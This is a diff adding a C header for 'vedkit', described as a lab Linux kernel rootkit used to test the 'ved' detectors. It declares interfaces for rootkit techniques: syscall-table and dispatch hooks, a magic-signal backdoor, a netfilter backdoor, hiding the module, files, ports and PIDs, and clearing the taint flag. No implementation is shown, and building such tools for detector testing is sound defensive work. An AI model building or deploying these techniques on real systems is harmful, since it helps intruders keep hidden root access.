@@ -1,0 +1,51 @@
+/* SPDX-License-Identifier: GPL-2.0 */
+/*
+ * vedkit: ved's lab rootkit.  It does what an intruder who got root does to
+ * stay hidden and keep root, with techniques chosen by the techniques=
+ * parameter, so that ved's detectors can be tested against the real thing.
+ */
+#ifndef VEDKIT_H
+#define VEDKIT_H
+
+#include <linux/types.h>
+
+#define VK_NAME "vedkit"
+
+struct pt_regs;
+
+/* Parameters shared by the techniques (main.c). */
+extern char *vk_hide_prefix;
+extern int vk_hide_pid;
+extern int vk_hide_port;
+extern int vk_magic_sig;
+extern int vk_nf_port;
+
+/* main.c: what a rootkit needs before it can do anything. */
+unsigned long vk_lookup(const char *name);
+int vk_write_ro_ptr(void *dst, void *val);
+
+/* syscall.c: the magic-signal backdoor behind both syscall hooks. */
+long vk_kill_common(const struct pt_regs *regs,
+		    long (*orig)(const struct pt_regs *), atomic_t *hits);
+
+/* One init/exit pair per technique. */
+int vk_sct_init(void);
+void vk_sct_exit(void);
+int vk_dispatch_init(void);
+void vk_dispatch_exit(void);
+int vk_hide_module_init(void);
+int vk_ftrace_file_init(void);
+void vk_ftrace_file_exit(void);
+int vk_kprobe_port_init(void);
+void vk_kprobe_port_exit(void);
+int vk_hide_pid_init(void);
+void vk_hide_pid_exit(void);
+int vk_nf_backdoor_init(void);
+void vk_nf_backdoor_exit(void);
+int vk_clear_taint_init(void);
+
+/* Read-only views for the tests (module parameters sct_kill, dispatch_kill). */
+void *vk_sct_kill_entry(void);
+void *vk_dispatch_kill_target(void);
+
+#endif /* VEDKIT_H */
